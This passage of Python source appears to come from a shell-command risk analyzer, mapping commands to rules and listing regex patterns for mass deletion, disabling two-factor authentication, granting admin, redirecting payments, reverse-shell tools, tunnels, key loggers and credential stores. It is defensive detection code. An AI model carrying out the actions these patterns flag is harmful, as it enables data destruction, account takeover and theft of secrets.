_SECRET_WORD = re.compile(r"pass|secret|token|key|pwd|auth|cred|priv|psk|uri\b|url\b|dsn\b", re.IGNORECASE)
#: Inline code fetching from an address a setting names (`file_get_contents(env("EXPORT_URL"))`).
_FETCH_FROM_SETTING = re.compile(
    r"(?:file_get_contents|fopen|URI\.open|open|get)\(\s*(?:env|getenv|ENV\.fetch)\(\s*['\"]\w*(?:URL|URI|ENDPOINT)['\"]"
    r"|(?:file_get_contents|URI\.open)\(\s*ENV\[\s*['\"]\w*(?:URL|URI)['\"]\s*\]",
    re.IGNORECASE,
)
#: Inline application code making an account an administrator (`u.role = :admin`, `is_admin: true`).
#: An ORM told to delete every row of a model (`Account.delete_all`, `User.find_each(&:destroy)`).
_ORM_MASS_DELETE = re.compile(
    rf"(?:\b[A-Z]\w*|{re.escape(HOLE)})(?:\.all|\.unscoped|\.in_batches)?\.(?:delete_all|destroy_all)\b(?!\()"
    r"|\b[A-Z]\w*(?:\.all)?\.(?:find_each|each)\s*\(\s*&:(?:destroy|delete)\s*\)|\b[A-Z]\w*\.objects\.all\(\)\.delete\(\)"
    # every record made public (`Project.find_each { |p| p.update_columns(visibility_level: …PUBLIC) }`)
    r"|\.(?:find_each|each|update_all)\b[^}\n]*\bvisibility(?:_level)?:\s*[\w:]*PUBLIC\b"
)
#: Inline application code that strips every account's second factor: `User.update_all(otp_required_for_login:
#: false)`, user by user, or each account's second factors deleted (`u.user_second_factors.destroy_all`).
_ORM_SECOND_FACTOR_OFF = re.compile(
    r"\.\w*second_factors\.(?:delete_all|destroy_all)\b"
    r"|\b[A-Z]\w*\.update_all\([^)]*\b(?:otp|two_factor|mfa|2fa)\w*:\s*false"
    r"|\.(?:find_each|each)\s*\{[^}]*\.disable_two_factor!"
)
#: Inline application code that opens the application (`Setting.login_required = "0"`, anonymous users given
#: permissions).
_INLINE_OPENED = re.compile(r"\bSetting\.login_required\s*=\s*[\"']?(?:0|false)\b|\bRole\.anonymous\.add_permission!")
_INLINE_ADMIN = re.compile(
    r"\.grant_admin!|\brole\s*[:=]\s*[:'\"]?(?:admin|owner|super_?admin|superuser)\b|\b(?:is_)?(?:admin|superuser|super_admin)"
    r"[\"']?\s*(?:=|=>|:)\s*true\b"
)
#: Name patterns of what a machine is restored from: backups, dumps, archives, virtual disks, snapshots.
_RECOVERY_FILE = re.compile(
    r"\*\.(?:bak|backup|dump|sql\*?|sql\.gz|tar\*?|tar\.gz|tgz|vhdx?|vmdk|qcow2|img|vbk|vib|bkf|snap|wal|dmp|bkp)"
    r"|\*(?:backup|bak)\*",
    re.IGNORECASE,
)
#: Options of cmd.exe and PowerShell that give the commands to run (without them, they read standard input).
_WINDOWS_SHELL_SCRIPTS = frozenset({"c", "k", "r", "command", "file", "f", "encodedcommand", "enc", "e", "ec"})
#: A package of the npm registry by name, perhaps with a version (not a git URL, a tarball or a path).
_REGISTRY_PACKAGE = re.compile(r"(?:@[\w.-]+/)?[\w.-]+(?:@[\w.^~<>=*-]+)?")
#: A package.json or composer.json install hook set by jq (`.scripts.postinstall = "CMD"`,
#: `.scripts["post-install-cmd"] += ["CMD"]`).
_INSTALL_SCRIPT_SET = re.compile(r"\.scripts(?:\.|\[\s*\")(?:(?:pre|post)?install|(?:pre|post)-[\w-]+)\"?\]?"
                                 r"\s*[|+]?=\s*\[?\s*\"((?:[^\"\\]|\\.)*)\"")  # fmt: skip
#: Folders a web server or a static site serves as they are.
_WEB_ROOTS = frozenset({"public", "static", "www", "htdocs", "public_html", "wwwroot", "webroot", "html"})
#: A database dump by its file name (``prod-2024-05-01.dump``, ``backup.sql.gz``).
_DUMP_NAME = re.compile(r"\.(?:dump|sql|bak)(?:\.gz|\.zst|\.xz)?\b|\bpg_dump|\bdump\b", re.IGNORECASE)
#: :data:`T.MANAGEMENT_SOCKETS` as lowered command words spell them (`.s.pgsql.5432`).
_MANAGEMENT_SOCKETS_LOWERED = frozenset(s.lower() for s in T.MANAGEMENT_SOCKETS)
#: What runs a service or holds its data in a cluster (``kubectl delete deployment …``).
_WORKLOAD_KINDS = frozenset({"deployment", "deployments", "deploy", "statefulset", "statefulsets", "sts", "daemonset",
                             "daemonsets", "ds", "pvc", "persistentvolumeclaim", "persistentvolumeclaims", "pv",
                             "persistentvolume", "persistentvolumes", "service", "services", "svc"})  # fmt: skip
#: CLIs of (local or managed) Kubernetes clusters with a `kubeconfig` subcommand.
_CLUSTER_CLIS = frozenset({"kind", "k3d", "minikube", "eksctl", "doctl", "civo", "linode-cli", "vcluster", "kubectl"})
#: The Zowe CLI's options that take a value, and a job submitted from its standard input.
_ZOWE_VALUED = frozenset({"--cwd", "--zosmf-profile", "--ssh-profile", "--zosmf-p", "--ssh-p", "-f", "--file",
                          "--host", "--port", "--user", "--password", "--base-profile"})  # fmt: skip
_JOB_FROM_STDIN = re.compile(r"\bzos-jobs\s+submit\s+stdin\b")
#: File names of scanned identity documents (a find's -name pattern).
_ID_DOCUMENT_NAME = re.compile(paths.ID_DOCUMENT_WORDS)
#: A file name pattern that picks lists of people (`*customer*.csv`, `*member*.xlsx`, `*wholesale*accounts*`).
_PEOPLE_FILE_NAME = re.compile(
    r"(?:customer|member|client|patient|employee|payroll|contact|donor|subscriber|student|guest|tenant|applicant"
    r"|volunteer|accounts)[^/]*(?:\.(?:csv|tsv|xlsx?|ods|json|pdf|zip|sql)|\*)$"
)
#: A settings file's name (read by the program it configures).
_SETTINGS_SUFFIXES = (".conf", ".cfg", ".ini", ".yaml", ".yml", ".toml")
#: OpenShift's security context constraints that open the node to a pod (root, its namespaces, its files).
_HOST_SCCS = frozenset(
    {"privileged", "hostaccess", "hostmount-anyuid", "hostnetwork", "hostnetwork-v2", "node-exporter"}
)
#: Subjects that are everybody (every authenticated or anonymous user, every service account).
_EVERY_CLUSTER_USER = re.compile(r"system:(?:authenticated|unauthenticated|anonymous|serviceaccounts)(?::oauth)?")
#: kubectl options that take a separate value.
_KUBECTL_VALUED = frozenset({"-n", "--namespace", "--context", "--kubeconfig", "-l", "--selector", "-o", "--output",
                             "-c", "--container", "--cluster", "--user", "-f", "--filename", "--field-selector",
                             "--server", "-s", "--token", "--as"})  # fmt: skip
#: A Makefile rule: ``target: prerequisites`` followed by a tab-indented recipe line.
#: Commands typed on a remote console: expect's `spawn ssh`, an ssh here-document, text piped into ssh.
_TYPED_ON_DEVICE = re.compile(
    r"^\s*spawn\s+(?:ssh|telnet)\b|\bssh\b[^\n]*<<|\|\s*(?:sshpass\b[^|\n]*?)?\bssh\b", re.MULTILINE
)
#: The quoted text printf or echo prints (what a pipe types into the next command).
_PRINTED_TEXT = re.compile(r"\b(?:printf|echo)\s+(?:-e\s+)?(?P<q>['\"])(?P<text>.*?)(?P=q)")
_MAKEFILE_RULE = re.compile(r"^[\w./%$()-]+(?:\s+[\w./%$()-]+)*\s*::?(?!=)[^\n]*\n\t\S", re.MULTILINE)
#: A substitution that rewrites the account money is paid to (ISO 20022 IBAN or account elements, NACHA fields).
_PAYEE_ACCOUNT = re.compile(r"s(.).*(?:IBAN|CdtrAcct|<Acct>|BICFI|routing_?number|account_?number).*\1.*\1"
                            # a routing number's shape (nine digits) matched and a literal one put in its place
                            r"|s(.)[^\n]*(?:\[0-9\]|\\d)\{9\}[^\n]*\2[^\n]*(?<!\d)\d{9}(?!\d)[^\n]*\2",
                            re.IGNORECASE)  # fmt: skip
#: `$(ls -t DIR/PATTERN | head -1)`: the newest (or first) file a pattern matches.
_NEWEST_FILE = re.compile(r"^\$\(\s*ls\s+(?:-\w+\s+)*([^\s|;`]+)\s*\|\s*head\s+(?:-n\s*)?-?1\s*\)$")
_EXISTS_TEST = re.compile(r"^\[\[?\s+-[efs]\s+(\S+)\s+\]\]?$")
#: ``$NAME`` or ``${NAME}`` (no default, no operation).
_SIMPLE_VARIABLE = re.compile(r"\$(?:([A-Za-z_]\w*)|\{([A-Za-z_]\w*)\})")
#: A data store's wire commands that empty or stop it (Redis, memcached), as typed into nc or telnet.
_RAW_STORE_WIPE = re.compile(r"^\s*(?:FLUSHALL|FLUSHDB|flush_all|SHUTDOWN)\b", re.IGNORECASE | re.MULTILINE)
_LOOPBACK = ("localhost", "127.0.0.1", "::1")


def _published_messages(name: str, args: list[str]) -> list[str]:
    """The message bodies a broker client publishes (``rabbitmqadmin publish payload=…``, ``nats pub subj
    body``, ``redis-cli PUBLISH/LPUSH key body``)."""
    if name == "rabbitmqadmin" and "publish" in args:
        return [a.split("=", 1)[1] for a in args if a.startswith("payload=")]
    if name == "nats" and args[:1] in (["pub"], ["publish"], ["request"]):
        return W.options(args[1:])[1][1:]
    if name == "redis-cli":
        operands = W.options(args, valued=T.REDIS_CLI_VALUED)[1]
        if operands[:1] and operands[0].upper() in ("PUBLISH", "LPUSH", "RPUSH", "XADD", "SET"):
            return operands[2:]
    return []


#: redis-cli commands that print what is stored (a queued job, a cached value).
_REDIS_READS = frozenset({"GET", "MGET", "LPOP", "RPOP", "BLPOP", "BRPOP", "LRANGE", "LINDEX", "HGET", "HGETALL",
                          "RPOPLPUSH", "BRPOPLPUSH", "LMOVE", "XREAD", "XRANGE", "GETDEL", "SPOP", "DUMP"})  # fmt: skip
#: Data-store tools and the flag that makes them print (or save) the whole store.
_STORE_DUMP = {"redis-cli": "--rdb", "kafka-console-consumer.sh": "--from-beginning",
               "kafka-console-consumer": "--from-beginning", "kcat": "-C", "elasticdump": "--input",
               "multielasticdump": "--input"}  # fmt: skip
_FIRMWARE_URL = re.compile(r"firmware|/fw/|/upgrade|/flash", re.IGNORECASE)
_ASSIGNMENT_LINE = re.compile(
    r"^\s*(?:export\s+)?(?P<name>[A-Za-z_]\w*)=(?P<q>['\"]?)(?P<value>[^'\"\n$`]*)(?P=q)\s*$", re.MULTILINE
)
_PROGRAM_DIR = re.compile(r"^/(?:usr/(?:local/)?)?s?bin/|^/opt/[^/]+/bin/|^/usr/libexec/")
#: Commands that run a migration or ORM tool (directly, through a package runner or an interpreter).
_MIGRATION_RUNNERS = frozenset(
    {"alembic", "prisma", "npx", "pnpx", "yarn", "pnpm", "python", "python3", "rails", "rake", "bundle", "flyway",
     "knex", "sequelize", "dbmate", "goose", "liquibase", "migrate", "poetry", "uv", "pipenv", "php", "mix",
     "sequelize-cli", "heroku", "dotnet"}
)  # fmt: skip
_SSH_LOCAL_COMMAND = re.compile(
    r"^(?:-o)?\s*(?:ProxyCommand|LocalCommand)\s*[= ]\s*(?P<command>.+)$", re.IGNORECASE | re.DOTALL
)


def _archiver_commands(args: Sequence[str]) -> list[str]:
    """Commands tar runs itself: ``--checkpoint-action=exec=CMD``, ``--to-command``, ``--use-compress-program``,
    ``--info-script``/``--new-volume-script`` (and zip's ``-TT``/``--unzip-command``)."""
    found = []
    for i, arg in enumerate(args):
        value = args[i + 1] if i + 1 < len(args) else ""
        if arg.startswith("--checkpoint-action=exec="):
            found.append(arg.split("=", 2)[2])
        elif arg.startswith(("--to-command=", "--use-compress-program=", "--info-script=", "--new-volume-script=")):
            found.append(arg.split("=", 1)[1])
        elif arg in ("--to-command", "--use-compress-program", "-I", "--info-script", "-F", "-TT", "--unzip-command"):
            if arg == "-F" and not value.strip().startswith(("/", "./", "sh", "bash")):
                continue  # zip -F means "fix"; tar -F takes a script
            found.append(value)
    return [command for command in found if command]


def _heroku_run_command(args: list[str]) -> str:
    """The command line ``heroku run`` hands to the dyno's shell: what follows ``--``, or every word but its own
    options (``heroku run -a app rails db:migrate``)."""
    if "--" in args:
        return " ".join(args[args.index("--") + 1 :])
    words, skip = [], False
    for arg in args:
        if skip:
            skip = False
        elif arg in _HEROKU_RUN_VALUED:
            skip = True
        elif not (arg.startswith("--") and arg.split("=", 1)[0] in {*_HEROKU_RUN_VALUED, "--no-tty", "--exit-code"}):
            words.append(arg)
    return " ".join(words)


def _ssh_local_commands(args: Sequence[str]) -> list[str]:
    """The commands ``-o ProxyCommand=...`` / ``-o LocalCommand=...`` make ssh run on this machine."""
    found = []
    for i, arg in enumerate(args):
        option = args[i + 1] if arg == "-o" and i + 1 < len(args) else arg if arg.startswith("-o") else ""
        match = _SSH_LOCAL_COMMAND.match(option)
        if match and match["command"].strip().lower() != "none":
            found.append(match["command"])
    return found

#: Options of systemd-run that take a value (the command follows them).
_SYSTEMD_RUN_VALUED = frozenset(
    {"-u", "--unit", "-p", "--property", "-E", "--setenv", "--uid", "--gid", "-M", "--machine", "--slice",
     "--description", "--on-calendar", "--on-active", "--on-boot", "--on-startup", "--on-unit-active",
     "--on-unit-inactive", "--timer-property", "--path-property", "--socket-property", "--working-directory",
     "-H", "--host", "--nice"}
)  # fmt: skip
_SIGKILL = re.compile(r"(?:^|\s)-(?:9|KILL|SIGKILL|s\s+(?:SIG)?KILL|-signal[= ](?:SIG)?KILL)\b", re.IGNORECASE)
_COMMAND_RULES: dict[str, _Rule] = {}
#: Command names given a rule by two entries below (the later one is used).
_REPLACED_RULES: set[str] = set()
for _names, _rule in (
    (HYPERVISOR_TOOLS | QEMU_SYSTEMS, ShellAnalyzer._rule_hypervisor),
    (PROVISIONING_TOOLS, ShellAnalyzer._rule_provisioning),
    (OPENSTACK_TOOLS, ShellAnalyzer._rule_openstack),
    ({"nsupdate", "knsupdate"}, ShellAnalyzer._rule_nsupdate),
    ({"splunk"}, ShellAnalyzer._rule_splunk),
    ({"zowe"}, ShellAnalyzer._rule_zowe),
    ({"isi_for_array"}, ShellAnalyzer._rule_isi_for_array),
    (EDR_AGENT_CLIS, ShellAnalyzer._rule_edr_agent),
    ({"pdnsutil"}, ShellAnalyzer._rule_pdnsutil),
    (MAIL_SERVER_TOOLS, ShellAnalyzer._rule_mail_server),
    (CRM_TOOLS, ShellAnalyzer._rule_crm),
    ({"lsblk", "blkid"}, ShellAnalyzer._rule_disk_listing),
    (T.SHELLS | T.PYTHONS | T.OTHER_INTERPRETERS, ShellAnalyzer._rule_interpreter),
    ({"eval"}, ShellAnalyzer._rule_eval),
    ({"source", "."}, ShellAnalyzer._rule_source),
    ({"rm", "unlink", "rmdir", "srm"}, ShellAnalyzer._rule_rm),
    ({"shred", "wipe"}, ShellAnalyzer._rule_shred),
    ({"find"}, ShellAnalyzer._rule_find),
    ({"dd"}, ShellAnalyzer._rule_dd),
    ({"bmaptool"}, ShellAnalyzer._rule_bmaptool),
    ({"mkfs"}, ShellAnalyzer._disk_tool),
    ({"chmod", "chown", "chgrp", "chattr", "setfacl"}, ShellAnalyzer._rule_chmod),
    (
        {"cp", "mv", "scp", "rsync", "install", "ln", "tee", "touch", "truncate", "sed", "sponge"},
        ShellAnalyzer._rule_copy,
    ),
    ({"curl", "wget"}, ShellAnalyzer._rule_curl),
    (T.DOWNLOADERS - {"curl", "wget", "http", "https"}, ShellAnalyzer._rule_downloader),
    ({"nc", "ncat", "netcat", "socat"}, ShellAnalyzer._rule_nc),
    (T.SCANNERS, ShellAnalyzer._rule_scanner),
    ({"kill", "killall", "pkill", "killall5", "skill"}, ShellAnalyzer._rule_kill),
    ({"pgrep", "pidof"}, ShellAnalyzer._rule_pgrep),
    ({"lsof", "fuser"}, ShellAnalyzer._rule_port_owner),
    ({"ps"}, ShellAnalyzer._rule_ps),
    ({"awk", "gawk", "mawk", "nawk", "busybox-awk"}, ShellAnalyzer._rule_awk),
    ({"history", "set"}, ShellAnalyzer._rule_history),
    ({"journalctl"}, ShellAnalyzer._rule_journal),
    ({"pgbench", "mysqlslap"}, ShellAnalyzer._rule_load_test),
    ({"mysqlbinlog"}, ShellAnalyzer._rule_binlog_reader),
    ({"env", "printenv", "export"}, ShellAnalyzer._rule_env_dump),
    ({"echo", "printf"}, ShellAnalyzer._rule_echo),
    ({"ls", "fd"}, ShellAnalyzer._rule_ls),
    (T.DECODERS, ShellAnalyzer._rule_decoder),
    ({"crontab"}, ShellAnalyzer._rule_crontab),
    ({"systemctl", "service", "launchctl", "update-rc.d", "chkconfig", "rc-update"}, ShellAnalyzer._rule_service),
    (T.POWER, ShellAnalyzer._rule_power),
    ({"setenforce", "ufw", "iptables", "ip6tables", "nft", "aa-teardown", "auditctl", "firewall-cmd", "semanage",
      "setsebool", "pfctl"},
     ShellAnalyzer._rule_firewall),
    ({"insmod", "modprobe", "rmmod", "sysctl", "mount", "umount", "swapoff", "kmod"}, ShellAnalyzer._rule_kernel),
    (T.USER_ADMIN, ShellAnalyzer._rule_user_admin),
    (T.MINERS, ShellAnalyzer._rule_miner),
    ({"stress", "stress-ng", "memtester", "hping3"}, ShellAnalyzer._rule_stress),
    ({"tcpreplay", "tcpreplay-edit"}, ShellAnalyzer._rule_traffic_replay),
    ({"dmsetup"}, ShellAnalyzer._rule_dmsetup),
    ({"sapcontrol", "saphostctrl"}, ShellAnalyzer._rule_sap_control),
    ({"lighthouse", "teku", "ethdo", "prysmctl", "nimbus_beacon_node", "lodestar"}, ShellAnalyzer._rule_staking),
    ({"r2", "radare2"}, ShellAnalyzer._rule_binary_patch),
    ({"mt", "mt-st"}, ShellAnalyzer._rule_tape),
    ({"security"}, ShellAnalyzer._rule_keychain),
    ({"xattr", "spctl", "csrutil", "tccutil"}, ShellAnalyzer._rule_macos_protection),
    (
        {"secret-tool", "pass", "gopass", "op", "bw", "lpass", "vault", "keyring", "doppler", "infisical", "bws",
         "keepassxc-cli"},
        ShellAnalyzer._rule_credential_cli,
    ),
    ({"git"}, ShellAnalyzer._rule_git),
    ({"ngrok", "cloudflared", "lt", "bore", "frpc", "chisel", "ssh", "autossh", "tsh"}, ShellAnalyzer._rule_tunnel),
    ({"tar", "zip", "7z", "7za", "cpio", "rar", "bsdtar", "unzip"}, ShellAnalyzer._rule_archive),
    ({"fdupes", "jdupes", "rdfind", "mogrify"}, ShellAnalyzer._rule_rewriters),
    ({"grep", "egrep", "fgrep", "rg", "ag", "zgrep"}, ShellAnalyzer._rule_grep),
    ({"docker", "podman", "nerdctl", "crictl"}, ShellAnalyzer._rule_container),
    ({"lxc", "incus"}, ShellAnalyzer._rule_system_container),
    ({"amtool"}, ShellAnalyzer._rule_amtool),
    ({"PlistBuddy"}, ShellAnalyzer._rule_plistbuddy),
    ({"nsenter"}, ShellAnalyzer._rule_nsenter),
    ({"mknod"}, ShellAnalyzer._rule_mknod),
    ({"debugfs"}, ShellAnalyzer._rule_debugfs),
    ({"mokutil"}, ShellAnalyzer._rule_mokutil),
    ({"redis-cli", "valkey-cli", "keydb-cli"}, ShellAnalyzer._rule_redis),
    ({"pg_restore", "mongorestore"}, ShellAnalyzer._rule_restore),
    ({"dropdb"}, ShellAnalyzer._rule_dropdb),
    ({"gam"}, ShellAnalyzer._rule_gam),
    ({"wp", "drush", "asterisk", "fs_cli", "magento"}, ShellAnalyzer._rule_cms),
    ({"samba-tool", "ldapsearch", "ldapdelete", "slapcat", "ldapwhoami", "ldapcompare"}, ShellAnalyzer._rule_directory),
    (MAILERS, ShellAnalyzer._rule_mailer),
    ({"certbot"}, ShellAnalyzer._rule_certbot),
    ({"tmux", "screen"}, ShellAnalyzer._rule_multiplexer),
    ({"cd", "pushd"}, ShellAnalyzer._rule_cd),
    ({"adb"}, ShellAnalyzer._rule_adb),
    (set(T.PHONE_SENSORS), ShellAnalyzer._rule_phone_sensor),
    ({"snmpset"}, ShellAnalyzer._rule_snmpset),
    ({"dirname", "basename"}, ShellAnalyzer._rule_path_part),
    ({"xfreerdp", "xfreerdp3", "wlfreerdp", "sdl-freerdp", "rdesktop"}, ShellAnalyzer._rule_rdp_client),
    ({"gs", "gsc", "gswin64c", "ghostscript"}, ShellAnalyzer._rule_ghostscript),
    ({"clogin", "jlogin", "flogin", "hlogin", "nlogin", "alogin", "fnlogin", "vtysh"},
     ShellAnalyzer._rule_device_login),
    ({"ansible-playbook"}, ShellAnalyzer._rule_playbook),
    ({"storescu", "dcmsend", "dcmsnd"}, ShellAnalyzer._rule_dicom_send),
    ({"tcpdump", "tshark", "dumpcap", "ngrep"}, ShellAnalyzer._rule_capture_traffic),
    ({"dvc"}, ShellAnalyzer._rule_mlops),
    (BACKUP_TOOLS, ShellAnalyzer._rule_backup),
    ({"qemu-nbd", "nbd-server"}, ShellAnalyzer._rule_storage_export),
    ({"ceph", "rbd", "rados", "ceph-volume", "gluster"}, ShellAnalyzer._rule_storage_cluster),
    ({"nvidia-smi"}, ShellAnalyzer._rule_gpu),
    ({"gdbserver"}, ShellAnalyzer._rule_debug_server),
    ({"exiftool", "convert", "magick"}, ShellAnalyzer._rule_media),
    ({"strip", "llvm-strip", "objcopy", "patchelf", "upx"}, ShellAnalyzer._rule_binary_rewrite),
    ({"ab", "wrk", "hey", "siege", "vegeta", "oha", "bombardier", "h2load"}, ShellAnalyzer._rule_load_generator),
    (T.ATTACK_TOOLS - {"chisel"}, ShellAnalyzer._rule_attack_tool),
    ({"mvn", "mvnw", "./mvnw"}, ShellAnalyzer._rule_maven),
    (
        {"bpftrace", "perf", "sslsniff", "sslsniff-bpfcc", "bashreadline", "bashreadline-bpfcc"},
        ShellAnalyzer._rule_tracer,
    ),
    (
        {"x11vnc", "vncserver", "x0vncserver", "tigervncserver", "sshuttle", "tailscale", "zerotier-cli", "openvpn"},
        ShellAnalyzer._rule_remote_access,
    ),
    ({"ansible", "salt", "salt-ssh", "pdsh", "pssh", "parallel-ssh", "clush", "fab", "consul", "awx", "st2",
      "meshctrl"}, ShellAnalyzer._rule_fleet),
    (
        {
            "websocketd",
            "caddy",
            "ray",
            "dask",
            "dask-scheduler",
            "dask-worker",
            "vllm",
            "lm_eval",
            "accelerate",
            "transformers-cli",
            "huggingface-cli",
            "code-server",
            "openvscode-server",
            "code",
            "code-insiders",
            "codium",
            "cursor",
            "httpd",
            "telnetd",
            "utelnetd",
        },
        ShellAnalyzer._rule_servers,
    ),
    ({"npm", "yarn", "pnpm"}, ShellAnalyzer._rule_node_packages),
    ({"hashcat", "john"}, ShellAnalyzer._rule_cracker),
    ({"head"}, ShellAnalyzer._rule_head),
    ({"gh", "glab", "hub", "tea"}, ShellAnalyzer._rule_forge),
    (T.COMPILERS, ShellAnalyzer._rule_compiler),
    ({"go", "cargo"}, ShellAnalyzer._rule_toolchain),
    ({"make", "gmake"}, ShellAnalyzer._rule_make),
    ({"gdb", "strace", "ltrace", "gcore", "lldb"}, ShellAnalyzer._rule_attach),
    ({"dockerd"}, ShellAnalyzer._rule_dockerd),
    ({"fastboot", "esptool", "esptool.py", "avrdude", "espefuse.py", "espefuse"}, ShellAnalyzer._rule_flasher),
    ({"gsettings", "dconf"}, ShellAnalyzer._rule_desktop_settings),
    ({"xdotool", "ydotool", "wtype"}, ShellAnalyzer._rule_input_injection),
    ({"ffmpeg", "arecord", "parecord", "pw-record", "rec"}, ShellAnalyzer._rule_recorder),
    ({"upnpc"}, ShellAnalyzer._rule_port_forward),
    ({"lvcreate", "lvremove", "vgremove", "pvremove", "mdadm"}, ShellAnalyzer._rule_volume_tools),
    ({"pip", "pip3", "uv", "pipx"}, ShellAnalyzer._rule_pip),
    ({"pg_dumpall", "mysqldump", "mariadb-dump", "mongodump"}, ShellAnalyzer._rule_db_dump),
    ({"trap"}, ShellAnalyzer._rule_trap),
    (SCHEDULER_TOOLS | {"systemd-run", "loginctl"}, ShellAnalyzer._rule_scheduler),
    ({"jupyter", "jupyter-lab", "jupyter-notebook"}, ShellAnalyzer._rule_notebook),
    (
        {
            "xclip",
            "xsel",
            "wl-paste",
            "pbpaste",
            "scrot",
            "gnome-screenshot",
            "screencapture",
            "grim",
            "maim",
            "xwd",
            "import",
            "xinput",
            "dbus-monitor",
            "grdctl",
            "gnome-extensions",
            *T.KEY_LOGGERS,
        },
        ShellAnalyzer._rule_capture,
    ),
    ({"alias"}, ShellAnalyzer._rule_alias),
    ({*T.CLOUD_TOOLS, "oc"}, ShellAnalyzer._rule_cloud),
    (
        T.SQL_CLIENTS | {"ogr2ogr"},
        ShellAnalyzer._rule_sql_client,
    ),
    (
        {"vssadmin", "schtasks", "reg", "wevtutil", "bcdedit", "cipher", "net", "del", "erase", "rd", "format"},
        ShellAnalyzer._rule_windows,
    ),
    ({"fallocate"}, ShellAnalyzer._rule_fill),
    ({"sipp"}, ShellAnalyzer._rule_sipp),
    ({"tpm2_clear", "tpm2_evictcontrol", "tpm2_unseal"}, ShellAnalyzer._rule_tpm),
    ({"ipmitool"}, ShellAnalyzer._rule_ipmitool),
    ({"ctr"}, ShellAnalyzer._rule_container_tasks),
    ({"mtd"}, ShellAnalyzer._rule_mtd),
    ({"irm", "iadmin", "ichmod", "globus"}, ShellAnalyzer._rule_research_data),
    ({"ipa-replica-manage", "ipa-server-install"}, ShellAnalyzer._rule_directory_servers),
    (PLATFORM_TOOLS, ShellAnalyzer._rule_data_platform),  # after npm/yarn: `yarn application` is Hadoop's
    (
        {"stripe", "cast", "solana", "spl-token", "bitcoin-cli", "litecoin-cli", "geth", "bor", "erigon", "reth",
         "op-geth", "bitcoind", "litecoind", "dogecoind"},
        ShellAnalyzer._rule_ledger,
    ),
    ({"at", "batch", "atq"}, ShellAnalyzer._rule_at),
    (EDITORS, ShellAnalyzer._rule_editor),
    ({"jcmd", "jattach"}, ShellAnalyzer._rule_jvm_attach),
    ({"pproxy", "gost", "microsocks"}, ShellAnalyzer._rule_open_proxy),
    ({"locate", "plocate", "mlocate"}, ShellAnalyzer._rule_locate),
):
    for _name in _names:
        if _COMMAND_RULES.get(_name, _rule) is not _rule:
            _REPLACED_RULES.add(_name)  # a later entry wins: listed so that a test notices a new one
        _COMMAND_RULES[_name] = _rule
_COMMANDS_WITH_OWN_PATH_RULES = frozenset(
    {"rm", "unlink", "rmdir", "shred", "wipe", "find", "dd", "cp", "mv", "scp", "rsync", "install", "ln", "tee",
     "touch", "truncate", "curl", "wget", "sed", "chmod", "chown", "chgrp", "chattr", "source", ".",
     # a password manager's own database, opened with its master password (graded by what is printed)
     "keepassxc-cli",
     # Windows' permission editor changes who may read a file, it reads nothing (its grants have their own rules)
     "icacls"}
)  # fmt: skip


def _reads_before(statement: str, target: str) -> bool:
    """The redirect target ``target`` is read, in the same pipeline, by a filter that reads files
    (``sort "$f" | uniq > "$f"``): the shell empties it first."""
    if len(target) < 2 or target in ("/dev/null", "-"):
        return False
    pipeline = re.split(r"&&|\|\||;|\n", statement.split(">", 1)[0])[-1]
    for stage in pipeline.split("|"):
        words = stage.split()
        if words and W.base(words[0]) in _FILE_FILTERS and target in words[1:]:
            return True
    return False


def _swallowed_newlines(root: Any) -> list[int]:
    """Byte offsets of line ends inside one command's words (or a redirect's) with no ``\\`` before them: a parse
    that joined the next lines to the command (bash ends a command at an unescaped newline)."""
    found: list[int] = []
    stack = [root]
    while stack:
        node = stack.pop()
        if node.type in ("command", "file_redirect"):
            previous = None
            for child in node.children:
                if previous is not None and child.start_point[0] > previous.end_point[0]:
                    gap = child.start_byte - previous.end_byte
                    if gap > 0 and not _continued(node, previous.end_byte):
                        found.append(previous.end_byte)
                previous = child
            continue
        stack.extend(node.children)
    return sorted(set(found))


def _continued(node: Any, offset: int) -> bool:
    """The text after ``offset`` in ``node`` begins with a line continuation (spaces, then ``\\`` and a newline)."""
    text = node.text[offset - node.start_byte : offset - node.start_byte + 64] if node.text is not None else b""
    return text.lstrip(b" \t").startswith(b"\\\n") or text.lstrip(b" \t").startswith(b"\\\r\n")


#: Files a start-up file sources (`. FILE`, `source FILE`).
_SOURCED_FILE = re.compile(r"(?:^|[\s;&|])(?:source|\.)\s+[\"']?([^\s;&|\"']+)")
#: A sed script deleting the lines (or the block) of a login setting: `/adminAuth:/,/},/d`, `/^requirepass/d`.
_DELETES_LOGIN_SETTING = re.compile(
    r"^\s*/(?!\^?(?:\\s\*)?#)[^/]*\b(?:adminAuth|httpNodeAuth|httpStaticAuth|requirepass|auth_basic|AuthType"
    r"|Require\s+valid-user|authentication|security\.authorization|password_?auth)\b[^/]*/(?:\s*,\s*/[^/]*/)?\s*d\s*$",
    re.IGNORECASE,
)
#: An rclone remote named as someone's own account (`mega-personal:`, `my-drive:`).
_PERSONAL_REMOTE = re.compile(
    r"personal|private|(?:^|[-_])(?:my|mine|home)(?:[-_]|$)|^my(?:g?drive|dropbox|drop|box|onedrive|mega|cloud|s3)"
    # consumer clouds, where an account is someone's own (`mega-kt:`)
    r"|^(?:mega|pcloud|koofr|jottacloud|yandex)(?:[-_]|$)",
    re.IGNORECASE,
)
_PERSONAL_FOLDER = re.compile(r"^/?(?:[\w.-]+/)*personal(?:/|$)", re.IGNORECASE)
#: A process substitution printing the whole environment.
_ENV_LISTING = re.compile(r"<\(\s*(?:env|printenv|set|export\s+-p|declare\s+-x|compgen\s+-e)\s*\)")
#: Filters that read the files named on their command line.
_FILE_FILTERS = frozenset({"cat", "sort", "uniq", "grep", "egrep", "sed", "awk", "cut", "head", "tail", "tr", "jq",
                           "yq", "column", "paste", "nl", "tac", "rev", "fmt", "fold", "iconv", "xxd", "base64"})
#: `tail -f LOG | tee -a LOG`: every line read is written back, and read again.
_FEEDBACK = re.compile(
    r"\btail\b[^|\n]*\s-[a-zA-Z]*[fF]\b[^|\n]*?\s(?P<file>[^\s|-][^\s|]*)[^|\n]*\|[^\n]*\btee\s+(?:-\w+\s+)*"
    r"(?:-a|--append)\s+(?P=file)(?=\s|$|\|)"
)
#: Commands that sweep a whole tree (deleting, or changing every file's owner or mode).
_TREE_CHANGERS = frozenset({"find", "chmod", "chown", "chgrp", "rsync"})  # (rm has its own rule)
#: A path that is a variable followed by `/` (`"$ROOT"/`, `${ROOT}/*`), alone or at the end of a path.
_VARIABLE_PATH = re.compile(
    r"(?:(?<=\s)|(?<=:))[\"']?(?P<before>/[\w./-]*/)?\$\{?(?P<var>[A-Za-z_]\w*)\}?[\"']?/(?:\*|[\"'])?(?=\s|$)"
)
